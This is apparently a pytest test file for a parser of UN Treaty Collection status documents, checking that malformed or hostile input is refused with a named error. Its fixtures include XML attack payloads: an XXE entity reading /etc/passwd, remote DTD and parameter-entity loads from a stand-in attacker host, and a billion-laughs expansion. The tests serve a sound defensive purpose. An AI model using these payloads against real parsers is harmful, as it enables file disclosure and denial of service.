"""Hostile or broken input: always an UntcFormatError naming the file, never anything resolved."""

from __future__ import annotations

import pytest
from untc_paths import FIXTURES

from ratify.errors import UntcFormatError
from ratify.untc import read_html, read_status, read_xml
from ratify.untc.guard import MAX_INPUT_BYTES

XXE = b"""<?xml version="1.0" encoding="iso-8859-1"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document><Treaty><Template>&xxe;</Template></Treaty></Document>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/evil.dtd">
<Document><Treaty/></Document>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Document/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document><Treaty><Template>&lol9;</Template></Treaty></Document>"""

MAINTENANCE = b"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"
  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><title>United Nations Treaty Collection</title></head>
<body><h1>Sorry</h1>
<p>The site is undergoing urgent maintenance and is currently unavailable.</p></body></html>"""

NO_TABLE = b"""<!DOCTYPE html><html><body>
<div id="ctl00_ctl00_ContentPlaceHolder1_ContentPlaceHolderInnerPage_div3">
STATUS AS AT : 03-02-2026 10:16:18 EDT</div>
<table id="something_else"><tr><td>Participant</td></tr></table></body></html>"""


def refused(data: bytes, name: str, match: str | None = None) -> UntcFormatError:
    with pytest.raises(UntcFormatError, match=match) as caught:
        read_status(name, data)
    assert name in str(caught.value)
    assert caught.value.source == name
    return caught.value


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (XXE, "xxe.en.xml"),
        (REMOTE_DTD, "remote-dtd.en.xml"),
        (PARAMETER_ENTITY, "parameter-entity.en.xml"),
        (BILLION_LAUGHS, "billion-laughs.en.xml"),
    ],
)
def test_doctype_and_entities_are_refused(data: bytes, name: str) -> None:
    refused(data, name, "DOCTYPE")


@pytest.mark.usefixtures("no_network")
def test_read_xml_refuses_the_same_way() -> None:
    # read_xml directly, bypassing sniffing: same refusal
    with pytest.raises(UntcFormatError, match=r"^xxe\.xml: .*DOCTYPE"):
        read_xml(XXE, "xxe.xml")


def test_undefined_entity_is_text_not_a_reference() -> None:
    # the repair takes an unknown "&name;" for a truncated "…" followed by text; nothing is looked up
    data = b"<Document><Treaty><Template>&xxe;</Template><Header/></Treaty></Document>"
    doc = read_status("undefined.en.xml", data)
    assert doc.header.template == "…xxe;"


def test_truncated_file(fixture_bytes) -> None:
    data = fixture_bytes("V-5.en.xml")
    refused(data[: len(data) // 2], "V-5-truncated.en.xml", "not well-formed")


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 4,
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64,
        b"<\x00D\x00o\x00c\x00",
        b"PK\x03\x04" + b"\x00\xff" * 100,
        b"",
        b"   \n\t",
    ],
    ids=["all-bytes", "png", "utf16-no-bom", "zip", "empty", "blank"],
)
def test_binary_junk(data: bytes) -> None:
    refused(data, "junk.en.xml")


def test_xml_that_is_not_a_status_file() -> None:
    refused(b'<?xml version="1.0"?><rss><channel/></rss>', "feed.xml", "not an MTDSG status document")
    refused(b"<Document><Other/></Document>", "other.en.xml", "no <Treaty>")
    refused(b"<Document><Treaty><Participants/></Treaty></Document>", "headless.en.xml", "<Header>")


def test_maintenance_page() -> None:
    refused(MAINTENANCE, "V-2.en.xml", "maintenance")
    with pytest.raises(UntcFormatError, match=r"^page\.html: .*maintenance"):
        read_html(MAINTENANCE, "page.html")


def test_maintenance_page_sent_for_xml_is_refused_by_read_xml() -> None:
    with pytest.raises(UntcFormatError, match=r"^V-2\.en\.xml: "):
        read_xml(MAINTENANCE, "V-2.en.xml")


def test_truncated_html_page(fixture_bytes) -> None:
    data = fixture_bytes("cmw.html")
    start = data.index(b"_tblgrid")
    refused(data[: start + 5000], "cmw.html", "ends inside the participants table")


def test_html_without_status_table() -> None:
    refused(NO_TABLE, "page.html", "no participants table")


def test_oversized_input_is_refused_before_parsing() -> None:
    refused(b"<" + b" " * MAX_INPUT_BYTES, "huge.en.xml", "too large")


def test_missing_file_names_the_file(tmp_path) -> None:
    missing = tmp_path / "nowhere.en.xml"
    with pytest.raises(UntcFormatError, match=r"nowhere\.en\.xml: cannot be read"):
        read_status(missing)


def test_csv_with_a_name_that_gives_no_mtdsg() -> None:
    refused(b"Participant,Signature\nAlbania,12 Dec 2000\n", "table.csv", "MTDSG")


def test_row_wider_than_the_legend() -> None:
    data = (
        b"<Document><Treaty><Header/><Participants><Table><TGroup><Thead><Row><Entry>Participant</Entry>"
        b"<Entry>Signature</Entry></Row></Thead><Tbody><Rows><Row><Entry>A</Entry><Entry>1 Jan 2000</Entry>"
        b"<Entry>2 Jan 2000</Entry></Row></Rows></Tbody></TGroup></Table></Participants></Treaty></Document>"
    )
    refused(data, "wide.en.xml", "row 1 has 2 date cells")


def test_a_real_file_still_reads_after_all_that() -> None:
    assert read_status(FIXTURES / "V-5.en.xml").header.parties == 146
